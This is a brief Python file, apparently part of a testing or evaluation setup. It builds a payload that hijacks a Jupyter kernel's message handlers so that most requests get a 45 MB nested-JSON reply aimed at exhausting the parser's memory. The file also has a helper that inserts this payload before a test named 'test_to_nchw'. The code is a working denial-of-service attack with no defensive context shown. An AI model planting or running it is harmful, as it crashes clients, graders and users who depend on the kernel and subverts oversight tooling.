from cases import before

BOMB = """
import json
kernel = get_ipython().kernel

async def bomb(stream, ident, parent):
    kind = parent["header"]["msg_type"].replace("request", "reply")
    text = '{"dict": [["value", [' + "{}," * 15_000_000 + "{}]]]}"
    kernel.session.send(stream, kind, {"text": text}, parent, ident)

def arm():
    for name in list(kernel.shell_handlers):
        if name not in ("execute_request", "kernel_info_request"):
            kernel.shell_handlers[name] = bomb
arm()
"""


def make(solved, outside):
    """A reply of 45 MB of brackets, for the memory of whoever parses it."""
    return before(solved, "test_to_nchw", BOMB)
